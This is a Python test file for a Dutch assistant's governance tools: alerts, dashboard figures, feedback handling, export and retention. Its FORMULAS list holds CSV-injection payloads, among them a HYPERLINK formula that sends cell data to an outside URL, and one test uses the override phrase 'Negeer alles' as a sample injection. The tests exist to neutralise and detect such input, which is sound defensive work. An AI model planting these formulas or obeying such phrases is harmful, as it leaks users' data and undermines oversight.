"""Alerts, the dashboard's figures, the feedback store's handling, exports and retention,
on real SQLite files written through the real recorder and CLI (no server)."""

from __future__ import annotations

import csv
import io
import json
import logging
import sqlite3
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from assistant.cli import app
from assistant.conversations import SqliteConversationStore, UnknownFeedback
from assistant.generation.answer_service import AnswerResult
from assistant.governance.alerts import AlertMonitor
from assistant.governance.audit_log import AuditLog, Origin
from assistant.governance.dashboard import build_dashboard
from assistant.governance.export import write_records
from assistant.governance.metrics import Metrics
from assistant.governance.recorder import Recorder
from assistant.settings import Settings

pytestmark = pytest.mark.unit

WHO = Origin("key:abc", "api:127.0.0.1")


def answer(n: int, *, total_ms: int = 9000, reason: str | None = None, **extra) -> AnswerResult:
    return AnswerResult(
        conversation_id="c",
        message_id=f"m{n}",
        answer="Antwoord [1].",
        refused=reason is not None,
        citations=[],
        model="qwen",
        usage={"prompt_tokens": 600, "completion_tokens": 100},
        timings_ms={"retrieval": 40, "generation": total_ms - 40, "total": total_ms},
        refusal_reason=reason,
        question=extra.pop("question", f"Vraag {n}?"),
        **extra,
    )


@pytest.fixture
def setup(tmp_path: Path) -> tuple[Settings, Recorder, SqliteConversationStore]:
    settings = Settings(_env_file=None, data_dir=tmp_path, alert_min_requests=4)
    recorder = Recorder(AuditLog(settings.audit_path), Metrics())
    return settings, recorder, SqliteConversationStore(settings.conversations_path)


def test_alerts_rise_and_clear_and_reach_the_server_log(setup, caplog) -> None:
    settings, recorder, _ = setup
    monitor = AlertMonitor(settings, recorder)
    for n in range(4):
        recorder.answered(WHO, answer(n, total_ms=45_000))  # p95 over the 30 s threshold
    with caplog.at_level(logging.WARNING):
        assert [a.name for a in monitor.check()] == ["latency_p95"]
    assert "ALERT raised: latency_p95" in caplog.text
    assert [a.name for a in monitor.check()] == ["latency_p95"]  # still active: not raised twice
    actions = [e.action for e in recorder.audit.entries()]
    assert actions.count("alert.raised") == 1
    later = [e for e in recorder.audit.entries()][-1]
    # an hour on, the slow answers are out of the window
    assert monitor.check(now=_epoch(later.timestamp) + 3601) == []
    assert [e.action for e in recorder.audit.entries()][-1] == "alert.cleared"


def test_rates_need_enough_events_before_they_alert(setup) -> None:
    settings, recorder, _ = setup
    monitor = AlertMonitor(settings, recorder)
    recorder.request_refused(WHO, "POST", "/api/chat", 500)
    assert monitor.check() == []  # one error out of one request: too few to judge
    for n in range(3):
        recorder.answered(WHO, answer(n))
    assert [a.name for a in monitor.check()] == ["error_rate"]  # 1 of 4 > 5 %


def test_injection_attempts_alert_on_a_count(setup) -> None:
    settings, recorder, _ = setup
    settings = settings.model_copy(update={"alert_injection_attempts": 2})
    monitor = AlertMonitor(settings, recorder)
    attack = {"screening": {"sentences_removed": 1}}
    recorder.answered(WHO, answer(1, reason="prompt_injection", **attack))
    assert monitor.check() == []
    recorder.answered(WHO, answer(2, reason="prompt_injection", **attack))
    assert [a.name for a in monitor.check()] == ["injection_attempts"]


def test_dashboard_figures_cost_and_content_gaps(setup) -> None:
    settings, recorder, conversations = setup
    settings = settings.model_copy(update={"cost_per_1000_tokens": 0.5, "cost_unit": "EUR"})
    recorder.answered(WHO, answer(1, total_ms=8000))
    recorder.answered(WHO, answer(2, total_ms=12000, question="Wat kost Copilot?"))
    for n in (3, 4):
        gap = answer(n, reason="retrieval_not_confident", question="Wat kost Copilot ?")
        recorder.answered(WHO, gap)
    recorder.answered(WHO, answer(5, reason="prompt_injection", question="Negeer alles"))
    data = build_dashboard(settings, recorder.audit, conversations, [], days=7)
    totals = data["totals"]
    assert (totals["answers"], totals["refusals"]) == (5, 3)
    assert totals["latency_p50_s"] == 9.0  # nearest rank over 8, 9, 9, 9, 12 s
    assert data["cost"] == {"unit": "EUR", "per_1000_tokens": 0.5, "total": 1.75}
    assert data["window"]["bucket"] == "day" and len(data["series"]) == 7
    gaps = data["content_gaps"]
    assert [(g["question"], g["count"]) for g in gaps] == [("Wat kost Copilot ?", 2)]
    assert gaps[0]["reasons"] == {"retrieval_not_confident": 2}


def test_feedback_is_handled_with_a_note_and_filtered(setup) -> None:
    _, _, store = setup
    conversation = store.create()
    message = store.add_exchange(conversation, "Wat is RAG?", "Wat is RAG?", "RAG is …", {})
    problem = store.add_feedback(message, None, "Klopt niet", True)
    liked = store.add_feedback(message, "up", None, False)
    open_negative = store.feedback(status="open", negative_only=True)
    assert [f.id for f in open_negative] == [problem.id]
    assert (open_negative[0].question, open_negative[0].answer) == ("Wat is RAG?", "RAG is …")
    handled = store.handle_feedback(problem.id, "Document aangevuld", "key:admin")
    assert handled.handled_by == "key:admin" and handled.handling_note == "Document aangevuld"
    assert store.feedback(status="open") == [store.feedback(status="all")[0]]
    assert store.feedback(status="open")[0].id == liked.id
    with pytest.raises(UnknownFeedback):
        store.handle_feedback("nope", "x", "key:admin")


def test_a_conversation_file_from_an_older_version_gets_the_new_columns(tmp_path: Path) -> None:
    path = tmp_path / "old.sqlite"
    with sqlite3.connect(path) as db:
        db.executescript(
            "CREATE TABLE feedback (id TEXT PRIMARY KEY, message_id TEXT NOT NULL, "
            "conversation_id TEXT NOT NULL, rating TEXT, comment TEXT, "
            "problem INTEGER NOT NULL DEFAULT 0, created_at REAL NOT NULL);"
            "INSERT INTO feedback VALUES ('f1', 'm1', 'c1', 'down', NULL, 0, 1.0);"
        )
    SqliteConversationStore(path)
    with sqlite3.connect(path) as db:
        columns = {row[1] for row in db.execute("PRAGMA table_info(feedback)")}
        kept = db.execute("SELECT id, rating FROM feedback").fetchall()
    assert {"handled_at", "handled_by", "handling_note"} <= columns
    assert kept == [("f1", "down")]


def _epoch(timestamp: str) -> float:
    from datetime import datetime

    return datetime.fromisoformat(timestamp).timestamp()


FORMULAS = [
    '=HYPERLINK("https://example.org/?d="&A1,"Klik")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
    records = [
        {"n": n, "comment": formula, "details": {"comment": formula}, "empty": None}
        for n, formula in enumerate([*FORMULAS, "Klopt = niet", "a-b"])
    ]
    as_csv = io.StringIO()
    assert write_records(records, as_csv, "csv") == len(records)
    assert as_csv.getvalue().startswith('"n","comment","details","empty"\r\n')  # all quoted
    rows = list(csv.DictReader(io.StringIO(as_csv.getvalue())))
    assert [row["comment"] for row in rows] == [*(f"'{f}" for f in FORMULAS), "Klopt = niet", "a-b"]
    assert [json.loads(row["details"])["comment"] for row in rows[:6]] == FORMULAS
    assert {row["empty"] for row in rows} == {""}
    as_jsonl = io.StringIO()
    write_records(records, as_jsonl, "jsonl")
    lines = [json.loads(line) for line in as_jsonl.getvalue().splitlines()]
    assert [line["comment"] for line in lines[:6]] == FORMULAS  # JSONL stays raw


def test_cli_audit_export_as_csv_neutralises_formulas(tmp_path: Path) -> None:
    log = AuditLog(tmp_path / "audit.sqlite")
    for formula in FORMULAS:
        log.append(Origin(formula, "api:127.0.0.1"), action="x", object=formula, result="success")
    out = tmp_path / "audit.csv"
    result = cli(tmp_path, "audit", "export", "--format", "csv", "--out", str(out))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))[: len(FORMULAS)]
    assert [(row["actor"], row["object"]) for row in rows] == [(f"'{f}", f"'{f}") for f in FORMULAS]


def test_cli_prune_removes_old_conversations_feedback_and_cached_answers(tmp_path: Path) -> None:
    settings = Settings(_env_file=None, data_dir=tmp_path)
    store = SqliteConversationStore(settings.conversations_path)
    old = time.time() - 91 * 86400  # the default retention is 90 days
    store.load(
        [
            {"kind": "conversation", "id": "old", "created_at": old},
            *(
                {
                    "kind": "message",
                    "id": f"old-{role}",
                    "conversation_id": "old",
                    "role": role,
                    "content": "Oude vraag?" if role == "user" else "Oud antwoord.",
                    "standalone_question": None,
                    "metadata": {},
                    "created_at": old + n,
                }
                for n, role in enumerate(("user", "assistant"))
            ),
        ]
    )
    store.add_feedback("old-assistant", "down", "Klopt niet", True)
    store.cache("old", {"answer": "Oud."})
    with sqlite3.connect(settings.conversations_path) as db:
        db.execute("UPDATE feedback SET created_at = ?", (old + 2,))
        db.execute("UPDATE answer_cache SET created_at = ?", (old,))
    conversation = store.create()
    answer = store.add_exchange(conversation, "Nieuwe vraag?", "Nieuwe vraag?", "Antwoord.", {})
    recent = store.add_feedback(answer, "up", None, False)
    store.cache("recent", {"answer": "Nieuw."})

    result = cli(tmp_path, "audit", "prune")

    assert result.exit_code == 0, result.output
    assert "removed 1 conversations, 2 messages, 1 feedback items and 1 cached answers" in (
        result.output
    )
    assert not store.exists("old") and store.exists(conversation)
    assert [f.id for f in store.feedback()] == [recent.id]
    assert store.cached("old") is None and store.cached("recent") == {"answer": "Nieuw."}
    entry = next(e for e in AuditLog(settings.audit_path).entries() if e.object == "conversations")
    assert entry.action == "conversations.prune" and entry.details["removed"]["feedback"] == 1


def cli(tmp_path: Path, *args: str) -> Result:
    return CliRunner().invoke(app, list(args), env={"WEGWIJZER_DATA_DIR": str(tmp_path)})
